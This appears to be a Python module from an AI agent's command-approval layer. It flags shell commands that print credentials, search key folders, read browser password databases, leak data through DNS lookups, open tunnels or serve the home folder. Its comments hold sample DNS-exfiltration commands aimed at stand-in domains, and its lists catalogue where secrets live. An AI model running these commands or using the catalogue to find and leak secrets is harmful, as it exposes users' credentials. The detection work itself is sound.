"""Command checks: programs that print secrets, and ways of opening this machine to another one.

`secret_producer(name, args)` names commands whose output is a credential (gh auth token, vault kv
get, aws sts get-session-token, security find-generic-password, echo $OPENAI_API_KEY ...). Run on
their own they show the secret to the model (read_secret); piped or substituted into a network
tool they send it away (the scanner marks the flow as secret).

Tunnels and remote forwards (ssh -R, ngrok, cloudflared, chisel, frp) let outsiders reach local
ports; a raw TCP shell in zsh (ztcp) or exec N<>/dev/tcp is judged with the other reverse shells.
"""

from __future__ import annotations

import re
from typing import Iterator

from hermes.tools.approval_base import _SECRET_VAR, Ctx, _on, _split
from hermes.tools.approval_paths import canon, is_hermes_home, is_secret

# program -> leading operands (after options) that print a secret; "*" = any operands
_PRODUCERS: dict[str, tuple[tuple[str, ...], ...]] = {
    "gh": (("auth", "token"),),
    "glab": (("auth", "token"),),
    "git": (("credential", "fill"), ("credential-store", "get"), ("credential-cache", "get"),
            ("credential-osxkeychain", "get"), ("credential-manager", "get")),
    "vault": (("kv", "get"), ("read",), ("kv", "metadata"), ("token", "lookup"), ("print", "token")),
    "aws": (("configure", "get"), ("configure", "export-credentials"), ("sts", "get-session-token"),
            ("sts", "assume-role"), ("sts", "get-federation-token"), ("secretsmanager", "get-secret-value"),
            ("ssm", "get-parameter"), ("ssm", "get-parameters"), ("ssm", "get-parameters-by-path"),
            ("ecr", "get-login-password"), ("codeartifact", "get-authorization-token"),
            ("iam", "create-access-key"), ("lambda", "get-function-configuration")),
    "gcloud": (("auth", "print-access-token"), ("auth", "print-identity-token"),
               ("auth", "application-default", "print-access-token"), ("secrets", "versions", "access"),
               ("iam", "service-accounts", "keys", "create")),
    "az": (("account", "get-access-token"), ("keyvault", "secret", "show"), ("keyvault", "secret", "download"),
           ("webapp", "config", "appsettings", "list"), ("functionapp", "config", "appsettings", "list"),
           ("webapp", "config", "connection-string", "list"), ("storage", "account", "keys", "list"),
           ("storage", "account", "show-connection-string"), ("cosmosdb", "keys", "list"), ("redis", "list-keys"),
           ("acr", "credential", "show"), ("cognitiveservices", "account", "keys", "list")),
    "heroku": (("auth:token",), ("config",)),
    "kubectl": (("get", "secret"), ("get", "secrets"), ("create", "token"),
                ("config", "view", "--raw")),
    "oc": (("get", "secret"), ("whoami", "-t"), ("whoami", "--show-token")),
    "security": (("find-generic-password",), ("find-internet-password",), ("dump-keychain",),
                 ("export",)),
    "secret-tool": (("lookup",), ("search",)),
    "op": (("read",), ("item", "get"), ("document", "get")),
    "pass": (("show",),), "gopass": (("show",), ("cat",)), "bw": (("get",), ("export",)),
    "lpass": (("show",), ("export",)), "keyring": (("get",),),
    "doctl": (("auth", "token"),), "npm": (("token", "list"), ("token", "create")),
    "gpg": (("--export-secret-keys",), ("--export-secret-subkeys",)),
    "gpg2": (("--export-secret-keys",), ("--export-secret-subkeys",)),
    "sops": (("-d",), ("--decrypt",), ("decrypt",)), "age": (("-d",), ("--decrypt",)),
    "ansible-vault": (("view",), ("decrypt",)), "chamber": (("read",), ("export",), ("exec",)),
    "pbpaste": ((),), "wl-paste": ((),), "xclip": (("-o",), ("-out",)), "xsel": (("-o",), ("--output",)),
}
_FIRST = {n: frozenset(v[0] for v in verbs if v) for n, verbs in _PRODUCERS.items()}
PRODUCER_NAMES = frozenset(_PRODUCERS) | {"echo", "printf", "printenv"}
_DOCKER_CRED = re.compile(r"^docker-credential-\w+$")


def _words(args: list[str]) -> list[str]:
    """Operands and the few flags that select the verb (gpg --export-secret-keys, kubectl --raw)."""
    out = []
    for a in args:
        if not a.startswith("-") or a in ("--export-secret-keys", "--export-secret-subkeys", "--raw", "-d",
                                          "--decrypt", "-t", "--show-token"):
            out.append(a)
    return out


def secret_producer(name: str, args: list[str]) -> bool:
    if name not in _PRODUCERS and name not in ("echo", "printf", "printenv") and not name.startswith("docker-cred"):
        return False
    if name in ("echo", "printf"):
        return any(_SECRET_VAR.search(a) for a in args)
    if _DOCKER_CRED.match(name):
        return bool(args[:1] == ["get"])
    if name == "printenv":
        return any(_SECRET_VAR.search("$" + a) for a in args)
    if name in ("xclip", "xsel"):  # the clipboard printed: passwords are copied through it
        return any(a in ("-o", "-out", "--output") or (name == "xsel" and re.fullmatch(r"-[a-z]*o[a-z]*", a))
                   for a in args)
    verbs = _PRODUCERS.get(name)
    if verbs is None or _FIRST[name].isdisjoint(args) and ((),) != verbs:
        return False
    if name == "security" and not any(re.fullmatch(r"-\w*[wg]\w*", a) for a in args):
        return args[:1] == ["dump-keychain"] and "-d" in args  # without -w/-g only attributes print
    if name in ("kubectl", "oc") and args[:1] == ["get"] and not any(
            a.startswith(("-o", "--output")) and not a.endswith(("name", "wide")) for a in args):
        return False  # listing secret names; -o yaml/json/jsonpath prints the values
    words = _words(args)
    if name == "git":  # git -C dir credential fill: the verb is the first operand after the options
        words = words[words.index(next((w for w in words if w.startswith("credential")), words[0])):] if words else []
    for v in verbs:
        if not v:
            return True
        if name in ("gpg", "gpg2", "sops", "age") and set(v) & set(args):
            return True
        if all(x in words for x in v) and words[:1] == list(v[:1]):
            return True
    return False


@_on(*_PRODUCERS, *("docker-credential-" + h for h in ("desktop", "osxkeychain", "secretservice", "pass",
                                                    "wincred", "ecr-login", "gcloud", "acr-env")))
def _prints_secret(name: str, args: list[str], ctx: Ctx) -> Iterator[str]:
    if name != "pbpaste" and secret_producer(name, args) and not _CONFIG_DUMP.search(" ".join([name] + args)):
        yield "print_secret"


# An app's configuration holds the keys of every service it uses: reading it is routine administration,
# sending it away (a file it was saved in, uploaded) is judged as a secret sent.
_CONFIG_DUMP = re.compile(r"^az (?:webapp|functionapp) config (?:appsettings|connection-string) list\b|"
                          r"^heroku config\b|^aws lambda get-function-configuration\b")


_SECRET_WORDS = re.compile(r"(?i)key|token|secret|passw|credential|private|bearer|auth")


@_on("grep", "egrep", "fgrep", "rg", "ag", "ack", "git-grep")
def _secret_search(name: str, args: list[str], ctx: Ctx) -> Iterator[str]:
    """Searching the agent's home, ~/.ssh or the whole home for keys prints them to the model."""
    flags, ops = _split(args)
    recursive = name in ("rg", "ag", "ack") or any(re.fullmatch(r"-\w*[rR]\w*|--recursive|--dereference-recursive",
                                                                f) for f in flags)
    if not recursive or not ops:
        return
    pattern, paths = ops[0], [canon(p) for p in ops[1:]]
    for p in paths:
        low = p.lower()
        if is_hermes_home(p) or low.startswith(("~/.ssh", "~/.aws", "~/.gnupg", "~/.config/gh", "~/.docker",
                                                "~/.kube", "/var/run/secrets", "/run/secrets")):
            yield "read_secret"
            return
        if _SECRET_WORDS.search(pattern) and low in ("~", "~/", "/", "/etc", "/root", "/home", "~/.config"):
            yield "read_secret"
            return


@_on("gpg", "gpg2")
def _pass_store(name: str, args: list[str], ctx: Ctx) -> Iterator[str]:
    """Decrypting the `pass` store file by file (`gpg -d` in a loop over ~/.password-store): every password."""
    encrypting = any(a in ("-e", "--encrypt", "-c", "--symmetric", "--sign", "-s", "--list-keys", "-k") for a in args)
    if not encrypting and any(".password-store" in a for a in args):
        yield "read_secret"


# A browser's own tables of cookies, saved passwords and cards, whatever the database file is called.
_BROWSER_TABLES = re.compile(r"(?i)\bmoz_(?:cookies|logins|formhistory)\b|\b(?:password|encrypted)_value\b|"
                             r"\bcard_number_encrypted\b|\bfrom\s+logins\b")


@_on("sqlite3", "sqlite", "litecli", "duckdb")
def _browser_db(name: str, args: list[str], ctx: Ctx) -> Iterator[str]:
    if any(_BROWSER_TABLES.search(a) for a in args):
        yield "read_secret"


# ---------------------------------------------------------------- data in DNS names

# A name to look up built from substitutions or variables in front of a fixed domain:
# `dig $(xxd -p f).x.example.net`, `host "$l".leak.example.org`, `curl https://$(base64 f).example.com`.
_UNIT = r"\$\((?:[^()]|\([^()]*\))*\)|`[^`]*`|\$\{?[A-Za-z_]\w*\}?"
_PART = re.compile(r"\$\(((?:[^()]|\([^()]*\))*)\)|`([^`]*)`|\$\{?([A-Za-z_]\w*)\}?")
_DYN_LABEL = re.compile(r"(?:(?<=[\s\"'=@])|(?<=://))[\"']?((?:" + _UNIT + r")(?:[\w-]*\.?(?:" + _UNIT + r"))*)"
                        r"[\"']?\.[\"']?(?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,}\b")
_LOOKUP = re.compile(r"(?:^|[\s;&|(`{])(?:sudo\s+|command\s+|do\s+|then\s+)*(?:\S*/)?(?:nslookup|dig|host|drill|kdig|"
                     r"delv|getent\s+a?hosts\w*|resolvectl\s+query|systemd-resolve|ping6?|traceroute6?|tracepath|"
                     r"curl|wget|nc|ncat)\b[^;&|\n]*$")
_ENCODER = re.compile(r"\b(?:xxd|base32|base64|basenc|od|hexdump|hd|uuencode|b64encode|hexlify)\b")
_IDENTITY = re.compile(r"^\s*(?:whoami|id|logname|who|users|groups)\b")
_FILE_READ = re.compile(r"^\s*(?:<\s*\S|(?:cat|head|tail|tac|sed|awk|cut|strings)\s+(?:\S+\s+)*[~/.\w][^|]*$)")


def dns_exfil(text: str) -> bool:
    """File contents, encoded data or who the user is, sent as a name to look up: whoever serves the
    domain reads it. A name glued from several substitutions is a beacon too."""
    for m in _DYN_LABEL.finditer(text):
        if not _LOOKUP.search(_command_head(text, m.start())):
            continue
        parts = list(_PART.finditer(m.group(1)))
        subs = [p.group(1) if p.group(1) is not None else p.group(2) for p in parts if p.group(3) is None]
        if any(_ENCODER.search(x) or _FILE_READ.match(x.split("|")[0]) or _IDENTITY.match(x) for x in subs) or (
                subs and len(parts) > 1):
            return True
        for var in (p.group(3) for p in parts if p.group(3)):
            source = re.search(rf"(?:\b{var}=\$\(|\bfor\s+{var}\s+in\b|\bread\s+(?:-\w+\s+)*(?:\w+\s+)*{var}\b)",
                               text)
            if source and (_ENCODER.search(text) or any(is_secret(f, sending=True) for f in _loop_inputs(text))):
                return True
    return False


def _command_head(text: str, end: int) -> str:
    """The command a word at text[end] belongs to, from its start (separators inside $(...) skipped)."""
    depth, k = 0, end - 1
    while k >= 0:
        c = text[k]
        depth += (c == ")") - (c == "(")
        if depth < 0:
            depth = 0
        elif depth == 0 and c in ";\n&|":
            break
        k -= 1
    return text[k + 1:end]


def _loop_inputs(text: str) -> list[str]:
    """Files a loop reads its lines from: `done < FILE`, `cat FILE |`, `for x in $(cat FILE)`."""
    return re.findall(r"\bdone\s*<\s*['\"]?([^\s'\";|&)]+)", text) + re.findall(
        r"(?:\bcat|\$\(\s*<)\s+['\"]?([^\s'\";|&)]+)", text)


# ---------------------------------------------------------------- tunnels and raw sockets

@_on("ssh")
def _ssh_forward(name: str, args: list[str], ctx: Ctx) -> Iterator[str]:
    if any(a == "-R" or (a.startswith("-R") and len(a) > 2) or re.fullmatch(r"-\w*R", a) for a in args) or any(
            a.lower().startswith("remoteforward") for a in args):
        yield "tunnel_expose"


_TUNNEL_VERBS = {"ngrok": {"http", "tcp", "tls", "start", "tunnel"}, "cloudflared": {"tunnel"},
                 "chisel": {"client", "server"}, "frpc": {"*"}, "frps": {"*"}, "bore": {"local"},
                 "lt": {"*"}, "localtunnel": {"*"}, "tailscale": {"funnel"}, "pinggy": {"*"},
                 "localxpose": {"tunnel"}, "loophole": {"http", "https", "tcp"}, "zrok": {"share"},
                 "inlets": {"client", "server"}, "rathole": {"*"}, "gost": {"*"}}


@_on(*_TUNNEL_VERBS)
def _tunnel(name: str, args: list[str], ctx: Ctx) -> Iterator[str]:
    verbs = _TUNNEL_VERBS[name]
    ops = [a for a in args if not a.startswith("-")]
    if "*" in verbs or (ops and ops[0] in verbs):
        if not any(a in ("--help", "-h", "version", "--version") for a in args):
            yield "tunnel_expose"


# Ad-hoc file servers and the option naming the folder they serve (else the working directory).
_SERVERS = {"python": ("--directory", "-d"), "php": ("-t",), "busybox": ("-h",), "httpd": ("-h",), "http-server": (),
            "serve": (), "twistd": ("--path",), "ruby": ()}
_LOOPBACK = re.compile(r"^(?:127\.[\d.]+|localhost|::1|\[::1\])(?::\d+)?$")


@_on(*_SERVERS)
def _file_server(name: str, args: list[str], ctx: Ctx) -> Iterator[str]:
    """python -m http.server and its kind answer anyone who can reach the port: serving the home
    folder or / hands out keys, tokens and Hermes's memory."""
    if name == "python" and not (args[:2] in (["-m", "http.server"], ["-m", "SimpleHTTPServer"])):
        return
    if (name == "php" and "-S" not in args) or (name == "busybox" and args[:1] != ["httpd"]) or (
            name == "httpd" and "-p" not in args) or (
            name == "twistd" and "web" not in args) or (name == "ruby" and not any("httpd" in a for a in args)):
        return
    opts = _SERVERS[name]
    served, k = None, 0
    while k < len(args):
        a = args[k]
        if a in opts and k + 1 < len(args):
            served = args[k + 1]
            k += 1
        elif a.startswith(tuple(o + "=" for o in opts if o.startswith("--"))):
            served = a.split("=", 1)[1]
        elif a in ("-b", "--bind", "-a", "--address", "-S", "-p", "--port", "-l", "--listen") and k + 1 < len(args):
            if a != "-p" and a != "--port" and _LOOPBACK.match(args[k + 1]):
                return
            k += 1
        elif name in ("http-server", "serve", "ruby") and not a.startswith("-") and "httpd" not in a \
                and not a.isdigit():
            served = a
        k += 1
    where = canon(served, ctx.cwd) if served else (canon(ctx.cwd) if ctx.cwd else None)
    if where is None:
        return
    low = where.lower().rstrip("/") or "/"
    if low in ("~", "/", "/etc", "/root", "/home", "/users", "/var") or is_secret(where, sending=True):
        yield "serve_private"


@_on("ztcp", "zsocket")
def _zsh_socket(name: str, args: list[str], ctx: Ctx) -> Iterator[str]:
    if not args or args[0] not in ("-c", "-L"):
        yield "raw_socket"


# A token sent to its own provider's API is how the API is used: $GITHUB_TOKEN to api.github.com.
_PROVIDERS = {"GITHUB": "github.com githubusercontent.com", "GH": "github.com", "GITLAB": "gitlab.com",
              "OPENAI": "openai.com", "ANTHROPIC": "anthropic.com", "HF": "huggingface.co",
              "HUGGINGFACE": "huggingface.co", "SLACK": "slack.com", "STRIPE": "stripe.com", "NPM": "npmjs.org",
              "PYPI": "pypi.org", "CLOUDFLARE": "cloudflare.com", "CF": "cloudflare.com", "VERCEL": "vercel.com",
              "NETLIFY": "netlify.com", "SENTRY": "sentry.io", "LINEAR": "linear.app", "NOTION": "notion.com",
              "DIGITALOCEAN": "digitalocean.com", "DO": "digitalocean.com", "HEROKU": "heroku.com",
              "MISTRAL": "mistral.ai", "GROQ": "groq.com", "GEMINI": "googleapis.com", "GOOGLE": "googleapis.com",
              "OPENROUTER": "openrouter.ai", "DEEPSEEK": "deepseek.com", "TOGETHER": "together.xyz",
              "COHERE": "cohere.com cohere.ai", "BITBUCKET": "bitbucket.org", "CIRCLECI": "circleci.com",
              "TELEGRAM": "telegram.org", "DISCORD": "discord.com", "TWILIO": "twilio.com",
              "SENDGRID": "sendgrid.com", "DOCKERHUB": "docker.io docker.com", "DOCKER": "docker.io docker.com",
              "JIRA": "atlassian.net", "ATLASSIAN": "atlassian.net", "FIREWORKS": "fireworks.ai",
              "REPLICATE": "replicate.com", "PERPLEXITY": "perplexity.ai", "XAI": "x.ai", "CODECOV": "codecov.io"}


def own_provider(found: list[str], args: list[str]) -> bool:
    hosts = [m.group(1).lower() for a in args for m in [re.match(r"(?:https?://)([^/:?#\s]+)", a)] if m]
    if not hosts:
        return False
    for var in found:
        prefix = var.strip("${}").upper().split("_")[0]
        domains = _PROVIDERS.get(prefix, "").split()
        if not all(any(h == d or h.endswith("." + d) for d in domains) for h in hosts):
            return False
    return True
